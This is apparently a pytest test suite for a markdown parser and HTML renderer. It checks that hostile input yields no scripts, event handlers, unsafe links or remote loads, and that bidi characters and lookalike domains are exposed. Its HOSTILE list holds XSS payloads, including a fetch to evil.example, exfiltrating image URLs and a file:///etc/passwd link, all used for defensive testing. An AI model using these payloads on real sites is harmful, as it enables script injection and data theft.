"""Hostile answers are text: nothing runs, nothing is loaded, nothing hides, nothing takes long."""

from __future__ import annotations

import re
from collections.abc import Iterator

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from studio.domain.markdown import Block, Heading, Inline, Paragraph, Picture, Run, Table
from studio.domain.markdown_html import to_html
from studio.domain.markdown_parser import parse
from studio.domain.markdown_text import block_text, plain_text, reveal

HOSTILE = [
    "<script>fetch('https://evil.example')</script>",
    "<img src=x onerror=alert(1)>",
    "a <img src='https://evil.example/?q=secret'> b",
    "![](https://evil.example/?q=secret)",
    "![x][y]\n\n[y]: https://evil.example/pixel.gif",
    "[click](javascript:alert(1))",
    "[click](  java\nscript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "<javascript:alert(1)>",
    "<file:///etc/passwd>",
    "[x]: javascript:alert(1)\n\n[x]",
    "</code></pre><script>1</script>",
    "```html\n</code><script>1</script>\n```",
    '```"><script>\nx\n```',
    "| <script> |\n|---|\n| <svg onload=alert(1)> |",
    "$<script>x</script>$ \\(</code><script>\\)",
    '[a](https://b.c/"onmouseover="alert(1))',
    '<a href="https://evil.example" style="position:fixed">all</a>',
    "[^<script>]\n\n[^<script>]: <b>",
    "<style>*{display:none}</style>",
    "<!-- --><svg/onload=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    'https://evil.example/"><script>',
    "# <iframe src=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
]
_TAG = re.compile(r"<\s*/?\s*([a-zA-Z][a-zA-Z0-9]*)([^>]*)>")
_ALLOWED_TAGS = {
    "p", "h1", "h2", "h3", "h4", "h5", "h6", "pre", "code", "span", "table", "thead", "tbody", "tr", "th",
    "td", "hr", "strong", "em", "s", "a", "sup", "br", "ul", "ol", "li", "blockquote", "section", "aside",
    "input",
}  # fmt: skip


def each_inline(blocks: list[Block]) -> Iterator[Inline]:
    for block in blocks:
        if isinstance(block, Paragraph | Heading):
            yield from block.inlines
        elif isinstance(block, Table):
            for row in (block.header, *block.rows):
                for cell in row:
                    yield from cell


def check(text: str) -> None:
    blocks = parse(text)
    for inline in each_inline(blocks):
        if isinstance(inline, Run) and inline.link:
            assert re.match(r"(?i)(https?://|mailto:)", inline.link)
        if isinstance(inline, Picture):
            assert re.match(r"(?i)https?://", inline.url)
    html = to_html(blocks)
    for tag, attributes in _TAG.findall(html):
        assert tag in _ALLOWED_TAGS
        assert not re.search(r"\son\w+\s*=", re.sub(r'"[^"]*"', '""', attributes))
        assert "src=" not in re.sub(r'"[^"]*"', '""', attributes)
        for address in re.findall(r'href="([^"]*)"', attributes):
            assert re.match(r"(?i)(https?://|mailto:|#)", address)


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_runs_and_nothing_is_loaded(text: str) -> None:
    check(text)


@settings(max_examples=200, deadline=None)
@given(st.lists(st.sampled_from([*HOSTILE, "\n", "> ", "- ", "`", "**", "|", '"']), max_size=5).map("".join))
def test_nor_in_any_combination(text: str) -> None:
    check(text)


def test_bidi_and_control_characters_are_visible() -> None:
    (block,) = parse("pay \u202etxt.exe\u202c \x1b[31mred \u2066x\u2069 \x00")
    words = block_text(block)
    assert not re.search("[\u202a-\u202e\u2066-\u2069\x00-\x08\x1b]", words)
    assert "⟨U+202E⟩txt.exe⟨U+202C⟩" in words
    (code,) = parse("```py\nif a:\u202e # \u200b\n```")
    assert block_text(code) == "if a:⟨U+202E⟩ # ⟨U+200B⟩"
    # Decoded from entities, too.
    (block,) = parse("a&#x202e;b")
    assert block_text(block) == "a⟨U+202E⟩b"


def test_what_scripts_and_emoji_need_stays() -> None:
    for text in ("👩‍👩‍👧", "می‌خواهم", "🏴󠁧󠁢󠁳󠁣󠁴󠁿", "a\tb\nc", "Ω ≈ ç√∫", "naïve"):
        assert reveal(text) == text
    assert reveal("a\u200bb") == "ab"
    assert "⟨U+E0061⟩" in reveal("x\U000e0061")


def test_addresses_do_not_pose_as_others() -> None:
    (block,) = parse("[bank](https://bаnk.example/\u202egpj.exe)")
    assert isinstance(block, Paragraph)
    link = next(each.link for each in block.inlines if isinstance(each, Run) and each.link)
    assert link.isascii()
    assert "xn--" in link


@pytest.mark.parametrize(
    "text",
    [
        "x" * 1_000_000, "[" * 100_000, "*" * 100_000, "<" * 100_000, "`" * 100_000, "![" * 50_000,
        ">" * 100_000,
        "> " * 50_000, "- " * 50_000, "- item\n" * 10_000, "```\n" * 9_999, "$$\n" * 10_001, "\\(" * 50_000,
        "|a" * 20_000 + "|\n" + "|-" * 20_000 + "|\n", "[a](" * 20_000, "\r" * 50_000, "\u202e" * 20_000,
        "![x](data:image/png;base64," + "iVBOR" * 100_000 + ")", "a@" * 30_000, "www." * 30_000,
        "&" * 100_000,
        "[^a]" * 20_000 + "\n\n[^a]: b", "<a href=\"" * 10_000, "\\begin{align}\n" * 5_000,
    ],
    ids=lambda text: text[:12],
)  # fmt: skip
def test_monstrous_texts_come_through(text: str) -> None:
    """The work per character is held in test_markdown_stream; here all of it is there, and soon."""
    blocks = parse(text)
    assert all(0 <= each.start <= each.end <= len(text) for each in blocks)
    plain_text(blocks)
